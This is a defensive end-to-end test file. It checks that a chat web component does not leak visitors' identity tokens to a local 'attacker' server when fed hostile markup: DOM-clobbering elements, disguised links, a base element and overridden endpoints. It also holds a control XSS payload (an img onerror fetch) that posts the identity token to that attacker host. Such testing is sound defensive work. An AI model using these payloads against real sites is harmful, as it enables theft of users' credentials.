import { execFileSync } from 'node:child_process'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { readFileSync } from 'node:fs'
import jwt from 'jsonwebtoken'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { testsAll } from '../../../scripts/test-tier.js'
import { launchBrowser } from '../e2e/browser.js'
import { EVENT } from './kinescope.js'
import { chatOn } from './page-facts.js'
import { Site } from './site.js'
import { startTokenServer, type TokenServer } from './token-server.js'
import { releases } from './wordpress-site.js'

/** The attacker's server. It accepts and records every request. */
class Recorder {
  readonly seen: { method: string; url: string; headers: IncomingMessage['headers']; body: string }[] = []
  readonly #server: Server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk) => (body += String(chunk)))
    request.on('end', () => {
      this.seen.push({ method: request.method!, url: request.url!, headers: request.headers, body })
      const { origin = '*' } = request.headers
      response.writeHead(200, {
        'access-control-allow-origin': origin,
        'access-control-allow-credentials': 'true',
        'access-control-allow-headers': 'authorization, content-type',
        'content-type': 'application/json',
      })
      response.end('{}')
    })
  })
  async listen(): Promise<string> {
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.2', resolve))
    return `http://127.0.0.2:${(this.#server.address() as AddressInfo).port}`
  }
  async close(): Promise<void> {
    this.#server.closeAllConnections()
    await new Promise((resolve) => this.#server.close(resolve))
  }
}

const recorder = new Recorder()
let evil: string
let site: Site
let tokenServer: TokenServer
let browser: Browser
let page: Page
let identityToken: string
/** The chat tokens that the endpoint issued for it. */
let tokens: string[]

beforeAll(async () => {
  evil = await recorder.listen()
  site = await new Site().listen()
  ;[tokenServer, browser] = await Promise.all([
    startTokenServer({ CHAT_ALLOWED_ORIGINS: SITE(), CHAT_RATE_LIMIT: 'off' }),
    launchBrowser(['--host-resolver-rules=MAP site.example 127.0.0.1']),
  ])
  site.pages.set('/purify.js', {
    html: readFileSync(new URL('../../node_modules/dompurify/dist/purify.min.js', import.meta.url), 'utf8'),
    headers: { 'content-type': 'text/javascript' },
  })
})
afterAll(async () => {
  await browser.close()
  await Promise.all([site.close(), tokenServer.close(), recorder.close()])
})
beforeEach(() => {
  recorder.seen.length = 0
  tokens = []
  identityToken = jwt.sign({ sub: 'user-1', name: 'Ann' }, tokenServer.secret, {
    audience: 'kinescope-chat',
    expiresIn: '1h',
  })
})
afterEach(() => page.close())

/** A host that the browser doesn't take for loopback: on loopback, `chat-origin` may be an attribute. */
const SITE = () => site.url('site.example')

/** The filter between an author's or a commenter's markup and the page. */
type Filter = 'unfiltered' | 'filtered by DOMPurify without SANITIZE_DOM' | 'filtered by WordPress'
const [[, wordpress] = []] = releases()
const FILTERS: Filter[] = [
  'unfiltered',
  'filtered by DOMPurify without SANITIZE_DOM',
  ...(wordpress ? ['filtered by WordPress' as const] : []),
]

/** The output of `wp_kses_post`, which needs no database. */
const filterByWordPress = (content: string): string =>
  execFileSync(
    'php',
    [
      '-r',
      `define('ABSPATH', '${wordpress}/'); define('WPINC', 'wp-includes');
      foreach (['compat', 'load', 'plugin', 'formatting', 'functions', 'kses', 'class-wp-hook'] as $file) require_once ABSPATH . WPINC . "/$file.php";
      echo wp_kses_post(stream_get_contents(STDIN));`,
    ],
    { input: content, encoding: 'utf8' },
  )

async function open(given: string, filter: Filter): Promise<void> {
  const content = filter === 'filtered by WordPress' ? filterByWordPress(given) : given
  const clean = filter.includes('DOMPurify')
  site.pages.set('/', {
    html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Page</title><link rel="icon" href="data:,">
      <script src="/purify.js"></script></head><body>
      <section class="comments"></section>
      <script>{
        const content = ${JSON.stringify(content).replaceAll('<', '\\u003c')}
        document.querySelector('.comments').innerHTML = ${clean} ? DOMPurify.sanitize(content, { SANITIZE_DOM: false, CUSTOM_ELEMENT_HANDLING: { tagNameCheck: /^kinescope-chat$/, attributeNameCheck: /^(event-id|language|label|loading|refresh|help|preview|chat-origin)$/ } }) : content
      }</script>
      <main><kinescope-chat event-id="${EVENT}"></kinescope-chat></main>
      <script type="module" src="${tokenServer.server.url}/kinescope-chat.js" data-identity="${identityToken}" data-upgrade="main" data-chat-origin="${tokenServer.chatOrigin}"></script>
      </body></html>`,
  })
  page = await browser.newPage()
  page.on('response', (response) => {
    if (response.url().endsWith('/token') && response.request().method() === 'POST')
      void response.json().then(
        ({ token }: { token?: string }) => token && tokens.push(token),
        () => {},
      )
  })
  await page.goto(SITE())
}

/** The recorded requests that name the visitor. An image may load from the attacker's server. */
const leaks = () =>
  recorder.seen.filter((request) => {
    const all = JSON.stringify(request)
    return (
      [identityToken, ...tokens].some(
        (secret) => all.includes(secret) || all.includes(secret.split('.')[1]!),
      ) ||
      request.headers.authorization ||
      request.method === 'POST'
    )
  })

const settings = () =>
  `data-token-url="${evil}/token" data-chat-origin="${evil}" data-identity="x" data-upgrade="body" data-signin-url="${evil}" data-credentials="include" data-token="x"`
const NAMES = [
  'currentScript',
  'scripts',
  'baseURI',
  'documentElement',
  'defaultView',
  'head',
  'body',
  'readyState',
  'location',
  'KinescopeChat',
  'customElements',
  'querySelectorAll',
  'addEventListener',
  'hidden',
  'URL',
  'activeElement',
  'adoptedStyleSheets',
]

const CONTENT: Record<string, () => string> = {
  'a comment with a marked link to the attacker’s page': () =>
    `<a href="${evil}/chat/${EVENT}#kinescope-chat">Chat</a>`,
  'a comment with a marked link to the real chat, out of scope': () =>
    `<a href="https://kinescope.io/chat/${EVENT}#kinescope-chat">Chat</a>`,
  'a comment with disguised links': () =>
    [
      `${evil}/?https://kinescope.io/chat/x#kinescope-chat`,
      `https://kinescope.io@${evil.slice(7)}/chat/x#kinescope-chat`,
      `${evil}\\@kinescope.io/chat/x#kinescope-chat`,
    ]
      .map((href) => `<a href="${href}">Chat</a>`)
      .join(''),
  'an author’s div with every setting': () => `<div data-kinescope-chat="${EVENT}" ${settings()}>x</div>`,
  'an author’s div whose stream is an address': () =>
    [`${evil}/chat/x`, `//${evil.slice(7)}/x`, `../../${evil}`, `x?token-url=${evil}`, `..%2f..%2f${evil}`]
      .map((id) => `<div data-kinescope-chat="${id}"></div>`)
      .join(''),
  'an author’s tag with a chat origin': () =>
    `<kinescope-chat event-id="${EVENT}" chat-origin="${evil}"></kinescope-chat><kinescope-chat event-id="${EVENT}" CHAT-ORIGIN=" '${evil}' "></kinescope-chat>`,
  'an author’s tag that asks another endpoint for tokens': () =>
    `<kinescope-chat event-id="${EVENT}" token-url="${evil}/token" identity=""></kinescope-chat>`,
  ...Object.fromEntries(
    ['img', 'form', 'object', 'embed', 'a', 'iframe', 'script'].map((tag) => [
      `an author’s <${tag}> of every name`,
      () =>
        NAMES.map(
          (name) =>
            `<${tag} name="${name}" id="${name}" ${settings()} ${tag === 'object' ? 'data' : tag === 'a' ? 'href' : 'src'}="${evil}/kinescope-chat.js" ${tag === 'script' ? 'type="text/plain"' : ''}></${tag}>`,
        ).join(''),
    ]),
  ),
  'an author’s div with every spelling of every setting': () =>
    [settings().toUpperCase(), settings().replaceAll('data-', 'data--'), settings().replaceAll('=', ' = ')]
      .map((spelt) => `<div data-kinescope-chat="${EVENT}" ${spelt}>x</div>`)
      .join(''),
  'an author’s link with every setting, in a link of theirs': () =>
    `<a href="https://kinescope.io/chat/${EVENT}?token=x&chat-origin=${evil}#kinescope-chat" ${settings()}>x</a><a href="javascript:0#kinescope-chat">y</a><area href="${evil}/chat/x#kinescope-chat">`,
  'an author’s chat inside of a chat': () =>
    `<kinescope-chat event-id="${EVENT}" chat-origin="${evil}"><div data-kinescope-chat="${EVENT}" ${settings()}></div><kinescope-chat event-id="y" chat-origin="${evil}"></kinescope-chat></kinescope-chat>`,
  'a base element': () => `<base href="${evil}/">`,
}

/** A filter only removes markup, so `npm test` tries every fourth content with it. */
const isTried = (content: number, filter: number): boolean =>
  testsAll || filter === 0 || content % 4 === filter

describe('the markup of an author or a commenter', () => {
  Object.entries(CONTENT).forEach(([name, content], contentIndex) => {
    for (const filter of FILTERS.filter((_, index) => isTried(contentIndex, index)))
      it(`sends the visitor’s tokens to no other server, ${filter}: ${name}`, async () => {
        await open(content(), filter)
        const { state } = await chatOn(page)
        await page.waitForFunction(() =>
          [...document.getElementsByTagName('kinescope-chat')].every(
            ({ state }) => !['idle', 'loading'].includes(state),
          ),
        )
        expect(
          leaks().filter(
            ({ url, headers }) =>
              !(name.includes('another endpoint') && !headers.authorization && url === '/token'),
          ),
        ).toEqual([])
        expect(state === 'ready' || name.includes('another') || name.includes('address')).toBe(true)
      })
  })

  it('can leak a token in a page with a script of the attacker (control)', async () => {
    await open(
      `<img src=x onerror="fetch('${evil}/', { method: 'POST', headers: { authorization: document.scripts[document.scripts.length - 1].dataset.identity } })">`,
      'unfiltered',
    )
    await expect.poll(() => leaks().some(({ headers }) => headers.authorization === identityToken)).toBe(true)
  })
})
